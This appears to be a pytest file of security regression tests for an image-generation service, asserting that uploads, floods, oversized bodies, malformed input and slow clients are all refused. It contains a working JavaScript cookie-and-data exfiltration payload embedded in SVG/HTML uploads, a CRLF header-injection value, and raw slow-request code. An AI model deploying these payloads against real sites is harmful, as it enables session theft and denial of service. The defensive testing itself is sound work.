"""The red-team findings (issue 16), each a regression test against a real service: uploads that would run as
scripts, one owner starving the others, costly bodies, malformed numbers and text, slow clients, secrets in logs
and command lines, tokens that cannot be revoked."""

from __future__ import annotations

import base64
import http.server
import io
import re
import select
import socket
import subprocess
import sys
import threading
import time
from datetime import datetime

import pytest
import requests
from PIL import Image

from browser import chromium, needs_chromium
from service_harness import ROOT, WORKER_TOKEN, Api, ServiceProcess

from .conftest import GENERATE, TRAIN

# A script that, wherever it runs, tells the receiver what it could read: the cookie, and the victim's predictions.
STEAL = (
    "fetch('/v1/predictions',{headers:{'X-LoRA-Studio-Page':'1'}}).then(r=>r.text()).catch(e=>'')"
    ".then(t=>fetch('{recv}/stolen?c='+encodeURIComponent(document.cookie)+'&p='+encodeURIComponent(t)));"
    "new Image().src='{recv}/ran?c='+encodeURIComponent(document.cookie);document.title='PWNED'"
)


class Receiver(http.server.BaseHTTPRequestHandler):
    """Where a script that ran would send what it stole."""

    hits: list[str] = []

    def do_GET(self):
        Receiver.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def receiver():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Receiver)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def _download_url(api: Api, file_id: str) -> str:
    return api("GET", f"/v1/files/{file_id}").json()["urls"]["download"]


def _upload(api: Api, name: str, payload: bytes, content_type: str) -> str:
    r = api("POST", "/v1/files", files={"content": (name, payload, content_type)})
    assert r.status_code == 201, r.text
    return r.json()["id"]


@pytest.mark.medium
@needs_chromium
def test_an_upload_opened_by_another_signed_in_owner_runs_no_script(hardened, receiver, tmp_path):
    mallory, victor_token = hardened.api("mallory"), hardened.process.token("victor")
    script = STEAL.replace("{recv}", receiver)
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script}"><script>{script}</script><circle r="9"/></svg>'
    ).encode()
    html = f"<html><body><script>{script}</script></body></html>".encode()
    ids = [
        _upload(mallory, "cat.svg", svg, "image/svg+xml"),
        _upload(mallory, "cat.png", html, "image/png"),  # an HTML page that says it is a PNG
        _upload(mallory, "cat.png", html, "image/png, text/html"),
    ]
    # a training input given as a data: URI becomes one of mallory's uploads too
    made = mallory(
        "POST",
        f"/v1/models/{TRAIN}/predictions",
        json={
            "input": {"instance_data": "data:image/svg+xml;base64," + base64.b64encode(svg).decode(), "task": "object"}
        },
    )
    assert made.status_code == 201, made.text
    ids.append(made.json()["input"]["instance_data"].rstrip("/").rsplit("/", 1)[1])
    urls = [_download_url(mallory, i) for i in ids]
    for url in urls:  # what the browser is told: never a document it may render with the origin's rights
        r = requests.get(url, timeout=10)
        assert r.status_code == 200 and r.headers["X-Content-Type-Options"] == "nosniff", url
        assert r.headers["Content-Security-Policy"].startswith("sandbox"), url
        assert r.headers["Content-Disposition"].startswith("attachment"), (url, r.headers["Content-Type"])
        assert r.headers["Content-Type"] == "application/octet-stream", url

    Receiver.hits.clear()
    with chromium(tmp_path / "profile", downloads=tmp_path / "downloads") as d:
        d.get(hardened.url + "/")
        d.find_element("css selector", "#token-input").send_keys(victor_token)
        d.find_element("css selector", "[data-signin] button").click()
        deadline = time.monotonic() + 30
        while not d.find_elements("css selector", ".who"):
            assert time.monotonic() < deadline, "sign-in did not complete"
            time.sleep(0.2)
        assert d.get_cookie("lora_studio_token")["httpOnly"]
        for url in urls:
            d.get(url)
            time.sleep(1.0)  # time for a script to run and call out, were it to run
            assert d.title != "PWNED", url
        d.get(hardened.url + "/")
        assert victor_token not in d.execute_script("return document.cookie")
    assert Receiver.hits == [], Receiver.hits


def test_only_a_raster_image_whose_bytes_match_is_shown_inline(hardened):
    alice = hardened.api("alice")
    png = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(png, "PNG")
    shown = requests.get(_download_url(alice, _upload(alice, "red.png", png.getvalue(), "image/png")), timeout=10)
    assert shown.headers["Content-Type"] == "image/png" and "Content-Disposition" not in shown.headers
    assert shown.headers["Content-Security-Policy"].startswith("sandbox")
    again = requests.get(shown.url, headers={"If-None-Match": shown.headers["ETag"]}, timeout=10)
    assert again.status_code == 304 and again.content == b"" and again.headers["ETag"] == shown.headers["ETag"]
    # a PNG sent under another image type is stored as what it is; a type with a CR/LF is never stored as given
    relabelled = alice("GET", f"/v1/files/{_upload(alice, 'red.gif', png.getvalue(), 'image/gif')}").json()
    assert relabelled["content_type"] == "image/png"
    r = alice(
        "POST",
        "/v1/files",
        files={"content": ("a.txt", b"hello", "text/plain")},
        data={"content_type": "text/plain\r\nX-Injected: 1"},
    )
    assert r.status_code == 201 and r.json()["content_type"] == "application/octet-stream", r.text
    assert "X-Injected" not in requests.get(r.json()["urls"]["download"], timeout=10).headers


def _started(api: Api, pid: str) -> datetime:
    return datetime.fromisoformat(api.wait(pid)["started_at"].replace("Z", "+00:00"))


def test_one_owner_flooding_the_queue_delays_another_by_at_most_one_prediction_per_worker(hardened):
    flood, other = hardened.api("flooder"), hardened.api("patient")
    workers = sum(w["model"] == GENERATE for w in hardened.process.workers())
    quick = {"prompt": "a red circle", "num_inference_steps": 2}
    flooded = [flood.predict(GENERATE, {**quick, "seed": i}, wait=None)["id"] for i in range(12)]
    mine = other.predict(GENERATE, {**quick, "seed": 99}, wait=None)
    mine_started = _started(other, mine["id"])
    mine_created = datetime.fromisoformat(mine["created_at"].replace("Z", "+00:00"))
    overtaking = [pid for pid in flooded if mine_created < _started(flood, pid) < mine_started]
    assert len(overtaking) <= workers, (len(overtaking), workers)
    assert all(flood.wait(pid)["status"] == "succeeded" for pid in flooded)  # the flood still all runs


@pytest.fixture(scope="module")
def limited(tmp_path_factory):
    """A service with small per-owner limits and short timeouts, and no generation worker (so predictions wait)."""
    service = ServiceProcess(
        tmp_path_factory.mktemp("limited"),
        env={
            "LORA_STUDIO_WORKERS": "lora-studio/lora=0;lora-studio/lora-training=0",
            "LORA_STUDIO_OWNER_CREATES_PER_MINUTE": "6",
            "LORA_STUDIO_OWNER_MAX_QUEUED": "4",
            "LORA_STUDIO_OWNER_UPLOAD_BYTES": "100000",
            "LORA_STUDIO_HEADER_TIMEOUT_S": "2",
            "LORA_STUDIO_BODY_TIMEOUT_S": "2",
        },
    ).start(wait_workers=False)
    yield service
    service.stop()


def test_a_flood_gets_429_with_retry_after_and_other_owners_go_on(limited):
    flood, other = Api(limited.url, limited.token("flood")), Api(limited.url, limited.token("other"))
    codes = [flood("POST", f"/v1/models/{GENERATE}/predictions", json={"input": {"prompt": "x"}}) for _ in range(5)]
    assert [r.status_code for r in codes] == [201] * 4 + [429], [r.text for r in codes]
    refused = codes[-1]
    assert "waiting in the queue" in refused.json()["detail"] and int(refused.headers["Retry-After"]) > 0
    for r in codes[:2]:
        flood("POST", f"/v1/predictions/{r.json()['id']}/cancel")  # room in the queue again, but not in the minute
    rate = [flood("POST", f"/v1/models/{GENERATE}/predictions", json={"input": {"prompt": "x"}}) for _ in range(3)]
    assert [r.status_code for r in rate] == [201, 201, 429], [r.text for r in rate]
    assert "in the last minute" in rate[-1].json()["detail"] and 0 < int(rate[-1].headers["Retry-After"]) <= 60
    assert other.predict(GENERATE, {"prompt": "x"}, wait=None)["status"] == "starting"


def test_uploads_past_an_owners_quota_are_refused_and_store_nothing(limited):
    api = Api(limited.url, limited.token("uploader"))
    first = api("POST", "/v1/files", files={"content": ("a.bin", b"a" * 60_000, "application/octet-stream")})
    second = api("POST", "/v1/files", files={"content": ("b.bin", b"b" * 60_000, "application/octet-stream")})
    assert first.status_code == 201 and second.status_code == 507, second.text
    assert "quota" in second.json()["detail"]
    assert [f["name"] for f in api("GET", "/v1/files").json()["results"]] == ["a.bin"]
    api("DELETE", f"/v1/files/{first.json()['id']}")
    assert api("POST", "/v1/files", files={"content": ("b.bin", b"b" * 60_000, "x/y")}).status_code == 201


def _raw(url: str, request: bytes, read_timeout: float = 10) -> tuple[bytes, float]:
    """Sends ``request`` on a new connection; (what came back before the server closed or answered, seconds)."""
    host, port = url.split("//")[1].split(":")
    with socket.create_connection((host, int(port)), timeout=read_timeout) as s:
        started = time.monotonic()
        s.sendall(request)
        try:
            answer = s.recv(65536)
        except (ConnectionResetError, TimeoutError):
            answer = b""
        return answer, time.monotonic() - started


def test_a_60_mb_body_is_refused_at_once_without_being_read(limited):
    token = limited.token("big")
    for auth in (b"", f"Authorization: Bearer {token}\r\n".encode()):
        head = (
            (
                f"POST /v1/models/{GENERATE}/predictions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                f"Content-Length: {60 * 2**20}\r\n"
            ).encode()
            + auth
            + b"\r\n"
        )
        answer, seconds = _raw(limited.url, head + b'{"input": [' + b"1," * 500)
        assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
        assert seconds < 1.0, seconds  # the 60 MB were never sent, so never read
    # streamed without a declared length: cut off past the JSON limit (1 MB), not read to the end
    host, port = limited.url.split("//")[1].split(":")
    with socket.create_connection((host, int(port)), timeout=10) as s:
        s.sendall(
            (
                f"POST /v1/models/{GENERATE}/predictions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                f"Authorization: Bearer {token}\r\nTransfer-Encoding: chunked\r\n\r\n"
            ).encode()
        )
        sent, chunk = 0, b"x" * 2**20
        try:
            for _ in range(60):
                s.sendall(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
                sent += 1
                if select.select([s], [], [], 0.05)[0]:
                    break
        except (BrokenPipeError, ConnectionResetError):
            pass
        answer = s.recv(65536)  # (the rest may be lost to a reset: the server closes with our bytes unread)
    assert answer.startswith(b"HTTP/1.1 413"), answer[:300]
    assert sent < 10, sent


def test_malformed_numbers_and_text_are_4xx_and_store_nothing(limited):
    api = Api(limited.url, limited.token("odd"))
    before = len(api("GET", "/v1/predictions").json()["results"])
    file_id = _upload(api, "a.txt", b"hello", "text/plain")
    for expires in ("١٢٣٤٥٦٧٨٩٠", "9" * 5000, "1e10", "-5"):
        assert (
            requests.get(
                f"{limited.url}/files/{file_id}/a.txt", params={"expires": expires, "sig": "x"}, timeout=10
            ).status_code
            == 404
        )
    for prefer in ("wait=" + "9" * 5000, "wait=١٠".encode(), "wait=-1", "wait=1.5"):  # bytes: UTF-8 on the wire
        r = api(
            "POST", f"/v1/models/{GENERATE}/predictions", json={"input": {"prompt": "x"}}, headers={"Prefer": prefer}
        )
        assert r.status_code == 400 and "Prefer" in r.json()["detail"], (prefer, r.text[:200])
    deep = '{"input": {"prompt": "x", "extra": ' + "[" * 500 + "]" * 500 + "}}"
    surrogate = '{"input": {"prompt": "a \\ud800 cat"}}'
    for body, phrase in ((deep, "nested too deeply"), (surrogate, "lone surrogate")):
        r = api("POST", f"/v1/models/{GENERATE}/predictions", data=body, headers={"Content-Type": "application/json"})
        assert r.status_code == 422 and phrase in r.json()["detail"], r.text[:300]
        assert len(r.content) < 2000  # one sentence, not a traceback
    listing = api("GET", "/v1/predictions")
    assert listing.status_code == 200 and len(listing.json()["results"]) == before
    assert api("GET", "/").status_code == 200


@pytest.mark.medium
def test_slow_headers_and_stalled_bodies_do_not_hold_the_server(limited):
    host, port = limited.url.split("//")[1].split(":")
    with socket.create_connection((host, int(port)), timeout=10) as s:
        started = time.monotonic()
        closed = None
        for byte in b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 20:
            try:
                s.sendall(bytes([byte]))
                time.sleep(0.5)
                if s.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK) == b"":
                    closed = time.monotonic() - started
                    break
            except BlockingIOError:
                continue
            except (BrokenPipeError, ConnectionResetError):
                closed = time.monotonic() - started
                break
        assert closed is not None and closed < 6, closed  # LORA_STUDIO_HEADER_TIMEOUT_S=2
    token = limited.token("slowbody")
    answer, seconds = _raw(
        limited.url,
        (
            f"POST /v1/models/{GENERATE}/predictions HTTP/1.1\r\nHost: x\r\n"
            f"Authorization: Bearer {token}\r\nContent-Type: application/json\r\n"
            'Content-Length: 1000\r\n\r\n{"input"'
        ).encode(),
    )
    assert answer.startswith(b"HTTP/1.1 408") and seconds < 6, (answer[:200], seconds)
    assert requests.get(f"{limited.url}/health", timeout=5).json() == {"status": "ok"}


def test_health_says_only_up_and_the_workers_need_the_worker_token(limited):
    assert requests.get(f"{limited.url}/health", timeout=5).json() == {"status": "ok"}
    assert requests.get(f"{limited.url}/internal/health", timeout=5).status_code == 401
    assert (
        requests.get(
            f"{limited.url}/internal/health", headers={"Authorization": f"Bearer {limited.token('x')}"}, timeout=5
        ).status_code
        == 401
    )


def test_a_revoked_token_is_refused_at_once_and_tokens_are_listed_without_the_token(limited):
    token = limited.token("leaver")
    api = Api(limited.url, token)
    assert api("GET", "/v1/predictions").status_code == 200
    cli = [sys.executable, "-m", "lora_core.cli", "token"]
    listed = subprocess.run(
        [*cli, "list", "--owner", "leaver"], cwd=ROOT, env=limited.env, capture_output=True, text=True, check=True
    ).stdout
    assert token[:7] in listed and token not in listed
    token_id = listed.split()[0]
    subprocess.run([*cli, "revoke", token_id], cwd=ROOT, env=limited.env, check=True, capture_output=True)
    assert api("GET", "/v1/predictions").status_code == 401  # at once: no cache outlives it


def test_no_third_party_script_is_served(limited):
    assert requests.get(f"{limited.url}/docs", timeout=5).status_code == 404
    assert requests.get(f"{limited.url}/openapi.json", timeout=5).status_code == 200
    home = requests.get(f"{limited.url}/", timeout=5).text
    assert all(src.startswith("/") for src in re.findall(r'<script[^>]+src="([^"]+)"', home))


@pytest.mark.medium
def test_the_worker_token_is_in_no_log_line_and_no_command_line(tmp_path):
    """At the default log level (info: an access-log line per request, the uploads of outputs included)."""
    service = ServiceProcess(tmp_path / "svc", env={"LORA_STUDIO_WORKERS": "lora-studio/lora-training=0"})
    service.start(log_level="info")
    try:
        api = Api(service.url, service.token("logs"))
        assert api.predict(GENERATE, {"prompt": "a red circle", "num_inference_steps": 2})["status"] == "succeeded"
        from lora_core.service.auth.signing import upload_key

        secrets_ = [WORKER_TOKEN, upload_key(WORKER_TOKEN, "lora-1")]
        commands = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
        assert not [s for s in secrets_ if s in commands]
        logs = "".join(p.read_text(errors="replace") for p in (tmp_path / "svc").rglob("*.log"))
        assert "/uploads/" in logs  # the uploads were logged...
        assert not [s for s in secrets_ if s in logs]  # ...without their key
    finally:
        service.stop()
